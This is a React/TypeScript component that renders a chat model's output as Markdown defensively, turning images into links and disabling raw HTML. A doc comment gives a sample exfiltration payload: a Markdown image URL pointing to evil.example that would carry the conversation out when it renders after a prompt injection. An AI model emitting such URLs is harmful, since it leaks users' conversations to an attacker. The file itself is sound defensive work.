"use client";

import Markdown, { type MarkdownToJSX } from "markdown-to-jsx";
import { createContext, useContext, type AnchorHTMLAttributes } from "react";

const LINK_REL = "noopener noreferrer nofollow";

/** Set inside a link, so an image there does not become a second link. */
const InsideLink = createContext(false);

function Link(props: AnchorHTMLAttributes<HTMLAnchorElement>) {
  return (
    <InsideLink.Provider value={true}>
      <a {...props} target="_blank" rel={LINK_REL} />
    </InsideLink.Provider>
  );
}

/**
 * A Markdown image becomes a link to it, never an <img>. An image is fetched the
 * moment it renders, without a click: a prompt-injected model could write
 * `![x](https://evil.example/?q=<the conversation>)` and the browser would send the
 * conversation out. A link waits for the user, and shows where it goes.
 * (The page's Content-Security-Policy also allows images from this origin only.)
 */
function ImageAsLink({ src, alt, title }: { src?: string; alt?: string; title?: string }) {
  const insideLink = useContext(InsideLink);
  const label = alt?.trim() || src || "image";
  // The sanitizer has already dropped javascript: and similar targets (src is then undefined).
  // Inside a link (`[![x](img)](url)`) the words are enough: a link in a link is invalid HTML.
  if (!src || insideLink) return <span>{label}</span>;
  return (
    <a href={src} title={title ?? src} target="_blank" rel={LINK_REL} data-markdown-image="">
      {label}
    </a>
  );
}

// One options object for every render: a new one each time would re-parse every message.
const OPTIONS: MarkdownToJSX.Options = {
  disableParsingRawHTML: true,
  forceBlock: true,
  overrides: {
    a: { component: Link },
    img: { component: ImageAsLink },
  },
};

/**
 * Model output is untrusted text. markdown-to-jsx builds React elements (no
 * innerHTML), raw HTML in the text stays text, links get a URL sanitizer, and
 * images are shown as links.
 */
export function MarkdownText({ text }: { text: string }) {
  return <Markdown options={OPTIONS}>{text}</Markdown>;
}
